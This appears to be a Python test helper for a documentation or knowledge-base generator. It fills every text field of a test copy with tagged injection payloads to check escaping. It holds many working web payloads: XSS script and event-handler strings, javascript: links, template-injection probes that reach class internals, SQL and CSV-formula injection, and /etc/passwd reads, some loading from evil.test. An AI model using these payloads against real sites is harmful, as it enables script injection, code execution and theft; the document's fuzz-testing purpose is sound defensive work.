"""Texts that want to run, load, evaluate or break something, and a base that has one of them in every text field.

Each has a word of its own in it, so that it can be found again wherever it came out.
"""

from __future__ import annotations

import html
import re
import shutil
from collections.abc import Callable, Iterator, Mapping
from copy import deepcopy
from pathlib import Path
from typing import Any, get_origin

import yaml
from pydantic import BaseModel

from knowledge_base import model
from knowledge_base.base import Kind
from knowledge_base.parts import texts
from knowledge_base.registry import KINDS
from knowledge_base.source import read
from knowledge_base.text import Form, Line, Prose, WebAddress

PRODUCT, RESULT = "7919*7907", "62615533"  # nothing else on a page is ever this number
RUN = "window.__pwned=1"

_SCRIPTS = [
    f"<script>{RUN}</script>T",
    f"<img src=x onerror={RUN}>T",
    f"<svg onload={RUN}>T",
    f'"><script>{RUN}</script>T',
    f"'><img src=x onerror={RUN}>T",
    f'" onmouseover="{RUN}" T',
    f"' autofocus onfocus='{RUN}' T",
    f"</title><script>{RUN}</script>T",
    f"</textarea><script>{RUN}</script>T",
    f"</script><script>{RUN}</script>T",
    f"--><script>{RUN}</script>T",
    f"]]><script>{RUN}</script>T",
    f"</style><script>{RUN}</script>T",
    f"</button><svg onload={RUN}>T",
    f"</option></select><img src=x onerror={RUN}>T",
    f"<details open ontoggle={RUN}>T",
    f"<body onload={RUN}>T",
    f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'>T",
    f"<math><mi xlink:href=javascript:{RUN}>T",
    f"<a href=javascript:{RUN}>T</a>",
    f"<a href='&#106;avascript:{RUN}'>T</a>",
    f"<form action=javascript:{RUN}><button>T",
    f"<object data=javascript:{RUN}>T",
    f"<embed src=javascript:{RUN}>T",
    f"<meta http-equiv=refresh content='0;javascript:{RUN}'>T",
    "<base href=//evil.test/>T",
    "<link rel=stylesheet href=//evil.test/T.css>T",
    "<style>@import '//evil.test/T.css'</style>T",
    "<p style='background:url(//evil.test/T)'>T",
    "<img src=//evil.test/T.gif>T",
    "<img srcset=//evil.test/T>T",
    "<video poster=//evil.test/T><source src=//evil.test/T>",
    "<audio src=//evil.test/T autoplay>T",
    "<input type=image src=//evil.test/T>T",
    "<iframe src=//evil.test/T>",
    "<template><img src=//evil.test/T></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>T",
    f"<svg><style><img src=x onerror={RUN}></style>T",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>T",
    f"<SCRIPT/x>{RUN}</SCRIPT/x>T",
    f"<script\n>{RUN}</script\n>T",
    f"\x00<script>{RUN}</script>T",
    f"<img\x0csrc=x\x0bonerror={RUN}>T",
    f"＜script＞{RUN}＜/script＞T",
    "<script>eval(name)</script>T",
    f"<x onclick={RUN} tabindex=1 id=x>T#x",
    "<a href=//evil.test ping=//evil.test/T>T",
    "<portal src=//evil.test/T>",
    f"<marquee onstart={RUN}>T",
    "<dialog open>T</dialog>",
    f"<button popovertarget=hovedmeny onclick={RUN}>T",
    "<div id=hovedmeny popover>T",
    "<!--T",
    "<![CDATA[T",
    "<?xml T?>",
    "<!doctype T>",
    "</article></main></body></html>T",
    "<h1 id=innhold>T</h1>",
    "<slot name=x>T</slot>",
    "<script type=module src=//evil.test/T.js></script>",
    "<script type=application/ld+json>{}</script>T",
    f'{{"@context":"T"}}</script><script>{RUN}</script>',
]
_LINKS = [
    f"[T](javascript:{RUN})",
    f"[T](JaVaScRiPt:{RUN})",
    f"[T](&#106;avascript:{RUN})",
    f"[T](java\tscript:{RUN})",
    f"[T](<javascript:{RUN}>)",
    f"[T][1]\n\n[1]: javascript:{RUN}",
    "[T](data:text/html;base64,PHNjcmlwdD4=)",
    f"[T](vbscript:{RUN})",
    "[T](//evil.test)",
    "[T](\\\\evil.test)",
    f'[T](https://a.no "onmouseover={RUN}")',
    f'[T](https://a.no/" onmouseover="{RUN})',
    f"[T](https://a.no/'><img/src=x/onerror={RUN}>)",
    "![T](//evil.test/x.gif)",
    "![T](https://evil.test/x.gif)",
    f"<javascript:{RUN}>T",
    "<https://evil.test/T>",
    "[T](https://[b)",
    "[T](https:evil.test)",
    f"[![T](x)](javascript:{RUN})",
    f"[a[T]b](javascript:{RUN})",
    f"[a\\]T](javascript:{RUN})",
    f"*[T](javascript:{RUN})*",
    "[T](file:///etc/passwd)",
    "[T](blob:x)",
    f"[T](\u0001javascript:{RUN})",
    f"[T]( javascript:{RUN} )",
    "[T](mailto:a@b.no?bcc=c@d.no)",
    "[T](../../../x)",
    "[T](#hovedmeny)",
]
_TEMPLATES = [
    f"{{{{ {PRODUCT} }}}}T",
    f"{{{{{PRODUCT}}}}}T",
    f"{{% set a={PRODUCT} %}}{{{{ a }}}}T",
    f"{{%print({PRODUCT})%}}T",
    f"{{# {PRODUCT} #}}T",
    f"${{{PRODUCT}}}T",
    f"#{{{PRODUCT}}}T",
    f"<%= {PRODUCT} %>T",
    f"[[{PRODUCT}]]T",
    f"@({PRODUCT})T",
    "{{'7919'*7907}}T",
    f"\\{{\\{{ {PRODUCT} \\}}\\}}T",
    f"&#123;&#123; {PRODUCT} &#125;&#125;T",
    f"&lbrace;&lbrace; {PRODUCT} &rbrace;&rbrace;T",
    f"{{&#123; {PRODUCT} }}}}T",
    f"&#x7b;{{ {PRODUCT} }}}}T",
    "{{ config }}T",
    "{{ config.plugins }}T",
    "{{ ''.__class__.__mro__ }}T",
    "{{ self._TemplateReference__context }}T",
    "{{ cycler.__init__.__globals__ }}T",
    "{{ environment }}T",
    "{{ git }}T",
    "{{ page.meta }}T",
    "{{ kb }}T",
    "{{ front() }}T",
    "{{ nope }}T",
    "{% include 'case.html.j2' %}T",
    "{% raw %}T{% endraw %}",
    "{% endraw %}{{ 7919*7907 }}T",
    "{{ case('fjordvik') }}T",
    "{% for a in range(9999999) %}T{% endfor %}",
    "{{ 9**9**9 }}T",
    f"{{{{ ({PRODUCT})|string }}}}T",
    "{% extends 'x' %}T",
    "{%- macro x() -%}T",
    "{{ \ue0000\ue001 }}T",
    "\ue0000\ue001T",
    "%s %(x)s {0} {x} T",
    "{0.__class__}T",
    "$T ${T} `id`",
]
_BREAKERS = [
    "T\u202e<gpj.exe",
    "T\u0000\u001b[31m",
    "T\u200b\u200d\ufeff",
    "T\ud7ff\ufffe",
    "T\n::error file=x::y",
    "T##[error]x",
    "T%0a%0dSet-Cookie:x",
    'T\\"}};//',
    '"T": {"a": [',
    '","url":"https://evil.test/T"',
    "T\\u003cscript\\u003e",
    "T\\x3cimg src=x\\x3e",
    "T' OR 1=1--",
    "../../T",
    "T}}}}",
    "}\n@misc{T, url={x}}",
    "T\\input{/etc/passwd}",
    "{T",
    "=cmd|' /C calc'!A0 T",
    "T\u2028\u2029",
    "__proto__ T",
    "constructor T",
    "T toString hasOwnProperty",
    "T<a",
    "T&lt;script&gt;",
    "T&amp;lt;b&amp;gt;",
    "T&#x3c;script&#x3e;",
    "T&notit; &copy",
    "*T",
    "**T* _a __b",
    "`T",
    "```T",
    "~~~T",
    "T\n===",
    "# T",
    "> T",
    "- T\n  - a\n    - b",
    "1) T",
    "|T|a|\n|-|-|\n|b|c|",
    "T\n\n[T]: //evil.test",
    "T[^1]\n\n[^1]: x",
    "*[T]: x",
    "T { onclick=x .y #z }",
    "T {: onclick=x }",
    "!!! note\n    T",
    ": T",
    "T\n: x",
    "--8<-- 'T'",
    "[TOC] T",
    "::T::",
    "T" + "[" * 100,
    "T" + "<" * 100,
    "T" + "*a **b" * 15,
    "T" + "\u0301" * 60,
    "T" + "😀" * 60,
    "T" + "\u0600" * 20,
    "T;T,T|T",
    "T</T>",
    "<T>",
    "&T;",
    "<T onload=x>",
    "T\r\nX: y",
]


def _word(number: int) -> str:
    """A word that stands nowhere else: letters alone, so that searching finds it."""
    letters = ""
    for _ in range(4):
        number, rest = divmod(number, 20)
        letters += "bcdfghjklmnprstvxzwq"[rest]
    return f"zy{letters}"


def _entities(text: str) -> str:
    return re.sub("[<>{}\"'&:(]", lambda found: f"&#{ord(found[0])};", text)


def _hexadecimal(text: str) -> str:
    return re.sub("[<{(]", lambda found: f"&#x{ord(found[0]):X};", text)


def _escaped(text: str) -> str:
    return re.sub(r"[<>{}\[\]()*_`]", lambda found: "\\" + found[0], text)


def _named(text: str) -> str:
    return html.escape(text.replace("{", "&lcub;"), quote=True)


_PLAIN = [*_SCRIPTS, *_LINKS, *_TEMPLATES, *_BREAKERS]
_DRESSED: tuple[Callable[[str], str], ...] = (str, _entities, _escaped, _hexadecimal, _named)


def payloads() -> list[str]:
    """All of them: each as it is, as entities, and as Markdown escapes. The nastiest come first."""
    nastiest = [*_SCRIPTS[:24], *_TEMPLATES[:18], *_LINKS[:12], *_BREAKERS[:12]]
    plain = [*nastiest, *(one for one in _PLAIN if one not in nastiest)]
    dressed = list(dict.fromkeys(dress(one) for dress in _DRESSED for one in plain))
    fitting = [one for one in dressed if len(one) + 5 < Line.longest]
    return [one.replace("T", _word(number)) for number, one in enumerate(fitting)]


def word_in(payload: str) -> str:
    """The word of a payload."""
    found = re.search("zy[bcdfghjklmnprstvxzwq]{4}", payload)
    assert found
    return found[0]


def harmless(payload: str) -> str:
    """Text of the same length and the same words, with nothing in it that means anything to anyone."""
    # Cyrillic letters, a different one for each mark, so that what differs before differs after.
    return re.sub(r"[^A-Za-z0-9 \n.,]", lambda one: chr(0x400 + ord(one[0])) if " " < one[0] < "\x7f" else "x", payload)


# --- a base of them -------------------------------------------------------------------------------------------------

EXPLAINED = "popoverord"  # a word that keeps its letters, so that its explanation is opened from other texts
Slot = str
"""A field that takes a text, by the name of its kind and its place in it: cases.observations.title."""


def multiplied(root: Path, times: int) -> None:
    """Gives the small base below `root` `times` as many records of every kind."""
    for kind in KINDS:
        if kind.one_per_file:
            for file in sorted((root / kind.location).glob("*.yml")):
                _copies(file, kind, times)
        elif kind.is_list and (root / kind.location).exists():
            data = _data(root / kind.location, root, kind)
            many = [_renamed(entry, copy) for copy in range(times) for entry in data]
            _write(root / kind.location, many)


def _copies(file: Path, kind: Kind[Any], times: int) -> None:
    for copy in range(1, times):
        data = _renamed(_data(file, file.parent.parent, kind), copy)
        if "number" in data:
            data["number"] = str(int(data["number"]) + copy * 20)
        _write(file.with_name(f"{file.stem}-{copy}.yml"), data)


def _renamed(data: Any, copy: int) -> Any:
    data = deepcopy(data)
    data.pop("former_ids", None)
    if copy and "id" in data:
        data["id"] = f"{data['id']}-{copy}"
    if copy and "number" in data and "id" in data:
        data["number"] = str(int(data["number"]) + copy * 20)
    return data


def _data(file: Path, root: Path, kind: Kind[Any]) -> Any:
    document = read(file, root, list if kind.is_list else dict).document
    assert document is not None
    return document.data


def _write(file: Path, data: Any) -> None:
    file.write_text(yaml.safe_dump(data, allow_unicode=False, sort_keys=False, width=100_000), encoding="utf-8")


def filled(root: Path, choice: Callable[[Slot, int], str]) -> Mapping[Slot, list[str]]:
    """Puts a text of `choice` in every text field of the base below `root`; it is told the field and how often so far.

    Returns what was put in each field.
    """
    put: dict[Slot, list[str]] = {}
    (root / "reference" / "moved.yml").write_text("- {from: a, to: b, why: c}\n", encoding="utf-8")
    (root / "reference" / "wording.yml").write_text("- {avoid: a, write: b}\n", encoding="utf-8")
    for kind in KINDS:
        place = root / kind.location
        for file in sorted(place.glob("*.yml")) if kind.one_per_file else [place] if place.exists() else []:
            data = _data(file, root, kind)
            for entry in data if kind.is_list else [data]:
                _complete(kind.record, entry)
                for path, form, _ in list(texts(kind.record, entry)):
                    slot = ".".join([kind.name, *(step for step in path if isinstance(step, str))])
                    text = choice(slot, len(put.setdefault(slot, [])))
                    if form is WebAddress:
                        text = _UNSEEN.sub("", text)
                    put[slot].append(text)
                    _set(entry, path, _worn(form, text))
            if kind.name == "glossary":
                data.append(
                    {
                        "id": EXPLAINED,
                        "term": EXPLAINED,
                        "definition": choice("popover", 0),
                        "later": choice("popover", 1),
                    }
                )
            _write(file, data)
    return put


def _complete(kind: type[BaseModel], data: dict[str, Any]) -> None:
    """Gives a record every field with a text that it may have and lacks."""
    for name, info in kind.model_fields.items():
        key, inner = info.alias or name, _inside(info.annotation)
        if name == "corner" and data.get("shape") != "tabell":
            continue  # only a table has one, and the record would be left out
        many = get_origin(info.annotation) is tuple
        if key not in data and inner is model.Ref:
            data[key] = [dict(_REF)] if many else dict(_REF)
        elif key not in data and inner is not None and issubclass(inner, Form) and not many:
            data[key] = "x"
        elif inner is not None and issubclass(inner, BaseModel):
            for one in data.get(key, []) if many else [data[key]] if key in data else []:
                _complete(inner, one)


_REF = {"section": "1", "page": "3", "source": "proverapport"}


def _inside(annotation: Any) -> type | None:
    """The class of the model, or the form of text, in an annotation such as `tuple[Ref, ...]` or `Line | None`."""
    if isinstance(annotation, type) and issubclass(annotation, BaseModel | Form):
        return annotation
    return next(filter(None, map(_inside, getattr(annotation, "__args__", ()))), None)


_UNSEEN = re.compile(r"\s|[\x00-\x20\x7f-\x9f\u2028\u2029\ufeff]")


def _worn(form: type[Form], text: str) -> str:
    """A text as a field of a form may hold it. An address is no text, but takes almost any letters."""
    if form is WebAddress:
        return f"https://a.no/{text}"
    return f"{text} {EXPLAINED}" if form is Prose else text


def _set(data: Any, path: tuple[str | int, ...], value: str) -> None:
    for step in path[:-1]:
        data = data[step]
    data[path[-1]] = value


def fields() -> set[Slot]:
    """Every text field that the model has."""
    return {f"{kind.name}.{'.'.join(path)}" for kind in KINDS for path in _forms(kind.record)}


def _forms(annotation: Any) -> Iterator[tuple[str, ...]]:
    if isinstance(annotation, type) and hasattr(annotation, "model_fields"):
        for name, info in annotation.model_fields.items():
            for path in _forms(info.annotation):
                yield (info.alias or name, *path)
    elif isinstance(annotation, type) and issubclass(annotation, Form):
        yield ()
    else:
        for inner in getattr(annotation, "__args__", ()):
            yield from _forms(inner)


def pages_of(payload: Callable[[int], str]) -> dict[str, str]:
    """Hand-written pages with payloads where a page holds plain text: its fields, and the arguments of macros."""
    quoted = [yaml.safe_dump({"title": payload(n), "description": payload(n + 1)}, width=10_000) for n in (0, 2, 4)]
    argument = re.sub(r"[\"\\{}\n]", "", payload(6))
    body = f'# Side\n\n{{{{ file_link("CONTRIBUTING.md", "{argument}") }}}}\n'
    return {f"om/skrevet-{n}.md": f"---\n{head}---\n\n{body}" for n, head in enumerate(quoted)}


def spoilt(project: Path, target: Path) -> Path:
    """A copy of a project, to put texts in."""
    return Path(shutil.copytree(project, target))
